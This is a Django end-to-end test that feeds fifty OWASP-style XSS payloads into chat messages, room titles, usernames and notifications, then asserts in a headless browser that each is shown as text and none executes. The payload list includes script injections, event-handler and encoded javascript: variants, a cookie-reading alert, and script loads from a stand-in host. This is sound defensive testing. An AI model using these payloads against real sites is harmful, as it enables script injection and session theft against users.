"""Fifty XSS payloads (after the OWASP filter-evasion cheat sheet) as chat messages, room
titles, usernames and notification text: in headless Chromium none runs, and each is
shown as the text it is."""

from __future__ import annotations

from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.db import connections

from chat import services as chat_services
from chat.models import Room
from chat.protocol import quote_line
from notifications import services as notification_services
from tests.conftest import Daphne
from tests.e2e.conftest import log_in, notifications_synced

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.invalid/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.invalid/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.invalid/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.invalid/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></math>",
    "'\"><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)//",
    "{{constructor.constructor('alert(1)')()}}",
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


def off_the_loop(work: Callable[[], Any]) -> Any:
    """Run ``work`` in a thread of its own: Playwright's loop holds this one, and the
    services publish through async_to_sync."""

    def run() -> Any:
        try:
            return work()
        finally:
            connections.close_all()

    with ThreadPoolExecutor(1) as pool:
        return pool.submit(run).result()


def test_fifty_payloads_show_as_text_and_none_runs(
    browser: Any,
    daphne_server: Daphne,
    make_user: Callable[..., Any],
    make_room: Callable[..., Room],
) -> None:
    assert len(PAYLOADS) == 50
    viewer = make_user("viewer")
    users = get_user_model()
    # Usernames only go through validators at signup; a payload could still arrive by
    # another road (an import, the admin), so pages must cope with any of them.
    authors = [users.objects.create_user(username=payload[:150]) for payload in PAYLOADS[:20]]
    room = make_room(title=PAYLOADS[0][:120], retention=0)
    for payload in PAYLOADS[1:10]:
        make_room(title=payload[:120])

    def post_all() -> None:
        previous = None  # each message replies to the one before: quotes of payloads too
        for i, payload in enumerate(PAYLOADS):
            author = authors[i % len(authors)]
            previous = chat_services.message_post(
                room=room,
                author=author,
                body=payload,
                reply_to=previous.pk if previous is not None else None,
            )
            notification_services.notification_send(
                title=payload[:200], body=payload, users=[viewer], level="warning"
            )

    off_the_loop(post_all)

    page = log_in(browser, daphne_server.url, "viewer", "/chat/")
    page.locator(".rooms").wait_for()
    rooms_text = page.locator(".rooms").inner_text()
    for payload in PAYLOADS[1:10]:
        assert payload[:120].strip() in rooms_text

    page.goto(f"{daphne_server.url}/chat/{room.slug}/")
    page.wait_for_selector("[data-live-state=connected]")
    page.locator("#messages .message").nth(49).wait_for()
    assert page.locator("#messages .message .body").all_text_contents() == PAYLOADS
    assert page.locator("#room-title").text_content() == PAYLOADS[0][:120]
    authors_shown = page.locator("#messages .message .author").all_text_contents()
    assert authors_shown[:20] == [p[:150] for p in PAYLOADS[:20]]
    quoted = page.locator("#messages .message .reply-text").all_text_contents()
    assert quoted == [quote_line(p) for p in PAYLOADS[:-1]]
    quoted_authors = page.locator("#messages .message .reply-author").all_text_contents()
    assert quoted_authors[:19] == [p[:150] for p in PAYLOADS[:19]]

    page.goto(f"{daphne_server.url}/notifications/")
    notifications_synced(page)
    titles = page.locator("#inbox .inbox-item .title").all_text_contents()
    assert titles == [p[:200] for p in reversed(PAYLOADS)][:20]

    # Live, as toasts: a payload sent while the page is open.
    off_the_loop(
        lambda: notification_services.notification_send(
            title=PAYLOADS[2], body=PAYLOADS[3], users=[viewer], level="error"
        )
    )
    toast = page.locator(".toast.level-error").first
    toast.wait_for()
    assert toast.locator(".title").text_content() == PAYLOADS[2]
    assert toast.locator(".body").text_content() == PAYLOADS[3]

    page.wait_for_timeout(1000)  # anything that would fire on load or error has fired
    assert page.dialogs == []
    # No element a payload asks for exists outside text: no injected img, svg, iframe.
    for tag in ("#messages img", "#messages svg", "#messages iframe", ".toast img", "#inbox img"):
        assert page.locator(tag).count() == 0, tag
